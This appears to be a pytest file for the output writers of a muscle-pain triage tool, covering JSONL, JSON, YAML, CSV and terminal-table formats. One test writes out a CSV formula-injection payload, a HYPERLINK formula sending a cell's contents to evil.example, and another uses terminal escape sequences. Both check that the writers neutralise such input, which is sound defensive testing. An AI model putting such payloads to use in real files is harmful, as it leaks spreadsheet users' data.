"""Output writers: every format carries each case's content, in order."""

from __future__ import annotations

import csv
import io
import json

import pytest
import yaml
from helpers import make_case

from triage.errors import CaseError, Location
from triage.fileformats import OUTPUT_FORMATS
from triage.formats import make_writer
from triage.results import ErrorRecord


@pytest.fixture
def outcomes(session):
    return [
        session.triage(make_case("tennis", pain_sites=["buttock", "back_of_thigh"], triggers=["tennis_serve"])),
        ErrorRecord("bad#2", CaseError("'tenis' is not allowed", Location("in.yaml", 9, "bad#2", "triggers"),
                                       value="tenis", suggestion="tennis_serve")),
        session.triage(make_case("fever", red_flags=["fever"])),
    ]


def _write(fmt: str, outcomes) -> str:
    stream = io.StringIO()
    writer = make_writer(fmt, stream)
    for outcome in outcomes:
        writer.write(outcome)
    writer.close()
    return stream.getvalue()


def test_jsonl_is_one_contract_record_a_line(outcomes) -> None:
    lines = [json.loads(line) for line in _write("jsonl", outcomes).splitlines()]
    assert [line["id"] for line in lines] == ["tennis", "bad#2", "fever"]
    assert lines[0] == outcomes[0].to_dict()
    assert lines[1]["error"] == {"field": "triggers", "value": "tenis", "message": "'tenis' is not allowed",
                                 "file": "in.yaml", "line": 9, "did_you_mean": "tennis_serve"}


@pytest.mark.parametrize("fmt", ["json", "yaml"])
def test_json_and_yaml_are_one_list_of_the_same_records(fmt: str, outcomes) -> None:
    text = _write(fmt, outcomes)
    data = json.loads(text) if fmt == "json" else yaml.safe_load(text)
    assert data == [o.to_dict() for o in outcomes]


@pytest.mark.parametrize("fmt", ["json", "yaml"])
def test_an_empty_batch_is_an_empty_list(fmt: str) -> None:
    text = _write(fmt, [])
    assert (json.loads(text) if fmt == "json" else yaml.safe_load(text)) == []


def test_csv_list_cells_are_json_arrays(outcomes) -> None:
    rows = list(csv.DictReader(io.StringIO(_write("csv", outcomes))))
    assert [r["id"] for r in rows] == ["tennis", "bad#2", "fever"]
    assert rows[0]["disposition"] == "self_care" and rows[0]["top_muscle"] == "piriformis"
    assert float(rows[0]["top_confidence"]) == outcomes[0].likely_muscles[0].confidence
    assert json.loads(rows[0]["recommendations"])[0] == "warm_up"
    assert rows[1]["error_field"] == "triggers" and rows[1]["error_value"] == "tenis"
    assert rows[2]["urgency"] == "urgent" and "refer.urgent.fever" in json.loads(rows[2]["referral_rules"])


def test_every_csv_list_cell_splits_back_exactly(session) -> None:
    # Reason texts hold ";" and ","; a JSON array gives each item back whole.
    results = [session.triage(make_case("many", pain_sites=["buttock", "back_of_thigh"],
                                        triggers=["tennis_serve"], red_flags=["fever"],
                                        conditions=["blood_thinners"])),
               session.triage(make_case("tennis", pain_sites=["buttock", "back_of_thigh"],
                                        triggers=["tennis_serve"]))]
    rows = list(csv.DictReader(io.StringIO(_write("csv", results))))
    for row, result in zip(rows, results, strict=True):
        data = result.to_dict()
        reasons = data["referral"]["reasons"] if data["referral"] else []
        assert json.loads(row["likely_muscles"]) == [
            f"{m['muscle']}:{m['confidence']}" for m in data["likely_muscles"]]
        assert json.loads(row["reasons"]) == [r["text"] for r in reasons]
        assert json.loads(row["referral_rules"]) == [r["rule"] for r in reasons]
        assert json.loads(row["recommendations"]) == [r["technique"] for r in data["recommendations"]]
        assert json.loads(row["advice"]) == data["advice"]
        assert json.loads(row["fired_rules"]) == [f["rule"] for f in data["fired_rules"]]
    assert any(";" in text for row in rows for text in json.loads(row["reasons"]) + json.loads(row["advice"]))


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(start: str) -> None:
    hostile = start + 'HYPERLINK("http://evil.example/?"&A1)'
    record = ErrorRecord(hostile, CaseError("bad", Location("in.csv", 2, hostile, "age"), value=hostile))
    row = next(csv.DictReader(io.StringIO(_write("csv", [record]))))
    assert row["id"] == "'" + hostile and row["error_value"] == "'" + hostile


def test_csv_numbers_stay_numbers(session) -> None:
    record = ErrorRecord("neg", CaseError("out of range", Location("in.csv", 2, "neg", "age"), value=-5))
    result = session.triage(make_case("tennis", pain_sites=["buttock", "back_of_thigh"],
                                      triggers=["tennis_serve"]))
    text = _write("csv", [record, result])
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows[0]["error_value"] == "-5"
    assert float(rows[1]["top_confidence"]) > 0 and not rows[1]["top_confidence"].startswith("'")


def test_table_escapes_what_could_drive_a_terminal(session) -> None:
    hostile = "\x1b]0\x07\r\n\x00\u202eb"
    text = _write("table", [session.triage(make_case(hostile, pain_sites=["buttock"]))])
    assert text.count("\n") == 2  # header and one row
    for char in "\x1b\x07\r\x00\u202e":
        assert char not in text
    assert "\\x1b" in text and "\\u202e" in text


def test_table_fits_a_width_and_colours_the_disposition(session) -> None:
    result = session.triage(make_case("a-rather-long-case-identifier-here", red_flags=["fever"]))
    stream = io.StringIO()
    writer = make_writer("table", stream, width=60, color=True)
    writer.write(result)
    lines = stream.getvalue().splitlines()
    plain = [line.replace("\x1b[33m", "").replace("\x1b[0m", "") for line in lines]
    assert all(len(line) <= 60 for line in plain), plain
    assert "\x1b[33murgent\x1b[0m" in lines[1]
    assert "\x1b[" not in _write("table", [result])


def test_table_shows_disposition_muscle_and_main_reason(outcomes) -> None:
    header, tennis, bad, fever = _write("table", outcomes).splitlines()
    assert header.split() == ["CASE", "DISPOSITION", "LIKELY", "MUSCLE", "WHY"]
    assert "self_care" in tennis and "piriformis (0.84)" in tennis
    assert "INVALID" in bad and "'tenis' is not allowed" in bad
    assert "urgent" in fever and "infection" in fever


def test_every_format_is_available() -> None:
    assert set(OUTPUT_FORMATS) == {"jsonl", "json", "yaml", "csv", "table", "fhir"}
